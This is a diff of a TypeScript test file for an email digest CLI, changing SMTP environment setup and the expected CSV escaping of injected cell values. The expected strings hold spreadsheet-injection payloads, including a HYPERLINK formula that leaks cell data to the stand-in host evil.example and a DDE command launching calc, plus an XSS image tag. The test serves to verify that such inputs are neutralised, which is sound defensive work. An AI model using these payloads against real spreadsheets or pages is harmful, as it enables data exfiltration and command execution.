@@ -9,7 +9,7 @@ import { tempDir } from '../helpers/temp.js';
 async function setup(extraEnv: Record<string, string> = {}) {
   const h = await digital99Harness();
   const smtp = await startSmtp();
-  const env = { ...h.env, SMTP_URL: smtp.url, MAIL_FROM: 'waba-sync@example.com', DIGEST_TO: 'ops@example.com, lead@example.com', ...extraEnv };
+  const env = { ...h.env, ...smtp.env, MAIL_FROM: 'waba-sync@example.com', DIGEST_TO: 'ops@example.com, lead@example.com', ...extraEnv };
   const digest = async (...args: string[]) => {
     h.clock.advance(60_000);
     return cli(['digest', ...args], env, { clock: h.clock, log: h.logs.log });
@@ -125,8 +125,8 @@ describe('digest', () => {
     expect(lines).toHaveLength(10);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
     expect(csv).toContain(`"'@SUM(1+1)*cmd|""/c calc""!A0"`);
-    expect(csv).toContain(`,'+1-2,`);
-    expect(csv).toContain(`"<img src=x onerror=alert(1)>"`);
+    expect(csv).toContain(`,"'+1-2",`);
+    expect(csv).toContain(`,<img src=x onerror=alert(1)>,`);
     // No cell of the CSV starts a formula.
     for (const line of lines) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);
 
